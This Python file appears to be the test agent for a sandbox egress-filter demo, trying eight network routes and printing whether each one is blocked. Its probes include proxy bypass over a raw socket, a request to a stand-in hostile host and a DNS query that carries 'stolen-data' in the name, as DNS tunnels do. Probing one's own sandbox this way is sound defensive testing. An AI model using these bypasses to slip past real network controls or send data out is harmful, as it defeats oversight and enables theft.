"""The demo's agent: eight ways to reach something, and what each looked like from inside the sandbox.

An ordinary program, standard library only: it knows nothing of trio-egress. For each attempt it prints one JSON object:
its name, whether it got through, what it saw, and how long that took.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import time
import urllib.error
import urllib.request

SECONDS = 5.0
"""Patience per attempt. Nothing here should need it: a denial is an answer, not a time-out."""


def fetch(url: str, data: bytes | None = None, context: ssl.SSLContext | None = None) -> str:
    with urllib.request.urlopen(url, data, SECONDS, context=context) as answer:  # noqa: S310 (the URLs below)
        return f"{answer.status} {answer.reason}, {len(answer.read())} bytes"


def get_over_https() -> str:
    trust = ssl.create_default_context(cadata=os.environ["DEMO_CA"])
    return fetch("https://api.example.com/", context=trust)


def get_over_http() -> str:
    return fetch("http://docs.example.com/")


def get_without_proxy_settings() -> str:
    """As programs do that never look at http_proxy."""
    with socket.create_connection(("docs.example.com", 80), timeout=SECONDS) as connection:
        connection.sendall(b"GET /raw HTTP/1.0\r\nHost: docs.example.com\r\n\r\n")
        head, _, body = connection.makefile("rb").read().partition(b"\r\n\r\n")
        status = head.decode("ascii").splitlines()[0].partition(" ")[2]
        return f"{status}, {len(body)} bytes"


def post_where_only_get_is_allowed() -> str:
    return fetch("http://docs.example.com/", data=b"x=1")


def get_from_another_host() -> str:
    return fetch("https://evil.example/")


def connect_to_address() -> str:
    with socket.create_connection(("203.0.113.7", 22), timeout=SECONDS) as connection:
        connection.sendall(b"hello\n")  # to SSH, the denial would be a message
        return f"{len(connection.recv(100))} bytes"


def send_datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(SECONDS)
        datagrams.connect(("203.0.113.7", 9999))
        datagrams.send(b"hello")
        return f"{len(datagrams.recv(100))} bytes"


def ask_another_resolver() -> str:
    """A DNS query by hand, with data in the name, as DNS tunnels have it."""
    labels = b"".join(bytes([len(label)]) + label for label in b"stolen-data.tunnel.example".split(b"."))
    query = struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(SECONDS)
        datagrams.connect(("8.8.8.8", 53))
        datagrams.send(query)
        code = datagrams.recv(512)[3] & 15
    if code:
        raise OSError("NXDOMAIN" if code == 3 else f"DNS error {code}")
    return "an answer"


ATTEMPTS = (
    get_over_https,
    get_over_http,
    get_without_proxy_settings,
    post_where_only_get_is_allowed,
    get_from_another_host,
    connect_to_address,
    send_datagram,
    ask_another_resolver,
)


def describe(error: OSError) -> str:
    if isinstance(error, urllib.error.HTTPError):
        return f"{error.code} {error.reason}"
    if isinstance(error, urllib.error.URLError) and isinstance(error.reason, OSError):
        return describe(error.reason)
    return error.strerror or str(error) or type(error).__name__


def main() -> None:
    for attempt in ATTEMPTS:
        started = time.monotonic()
        try:
            through, saw = True, attempt()
        except OSError as error:
            through, saw = False, describe(error)
        milliseconds = round((time.monotonic() - started) * 1000)
        print(
            json.dumps(
                {"attempt": attempt.__name__, "through": through, "saw": saw, "milliseconds": milliseconds}
            )
        )


if __name__ == "__main__":
    main()
